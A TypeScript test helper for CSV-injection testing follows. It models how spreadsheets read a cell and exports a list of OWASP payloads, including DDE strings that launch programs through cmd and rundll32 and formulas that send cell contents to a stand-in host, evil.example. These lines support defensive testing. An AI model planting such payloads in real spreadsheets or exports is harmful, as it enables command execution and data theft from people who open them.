/** How a spreadsheet (Excel, LibreOffice, Google Sheets) reads one CSV cell, for the CSV-injection tests. */
export type SheetCell = { kind: 'formula'; text: string } | { kind: 'number'; value: number } | { kind: 'text'; value: string };

const NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * A leading `'` makes the rest text (and is not shown); otherwise leading whitespace (tab and CR
 * included) is skipped, a number is a number, and `=`, `+`, `-` or `@` starts a formula.
 */
export function readAsSpreadsheet(cell: string): SheetCell {
  if (cell.startsWith("'")) return { kind: 'text', value: cell.slice(1) };
  const trimmed = cell.replace(/^[\s\u00a0\ufeff]+/, '');
  if (NUMBER.test(trimmed)) return { kind: 'number', value: Number(trimmed) };
  if (/^[=+\-@]/.test(trimmed)) return { kind: 'formula', text: trimmed };
  return { kind: 'text', value: cell };
}

/** OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and variants. */
export const OWASP_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=IMAGE("http://evil.example/pixel.png")',
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '+cmd|calc',
  '@SUM(1+1)',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  ' +cmd|calc',
  '\t@SUM(1)',
  "=10+20+cmd|' /C calc'!A0",
];
